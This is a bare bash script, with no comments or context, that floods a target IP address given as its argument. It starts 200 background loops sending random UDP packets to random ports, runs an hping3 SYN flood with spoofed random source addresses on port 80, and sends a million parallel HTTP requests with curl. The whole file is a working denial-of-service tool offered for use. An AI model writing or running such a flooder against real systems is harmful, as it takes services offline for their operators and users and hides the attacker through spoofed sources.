#!/bin/bash
victim=${1:-198.51.100.150}
pids=()
for n in $(seq 1 200); do
  ( while :; do head -c 1400 /dev/urandom > /dev/udp/$victim/$((RANDOM % 65535 + 1)); done ) 2>/dev/null &
  pids+=($!)
done
command -v hping3 >/dev/null && hping3 -S --flood --rand-source -p 80 "$victim" &
seq 1 1000000 | xargs -P 100 -I{} curl -s -o /dev/null "http://$victim/?{}"
wait "${pids[@]}"
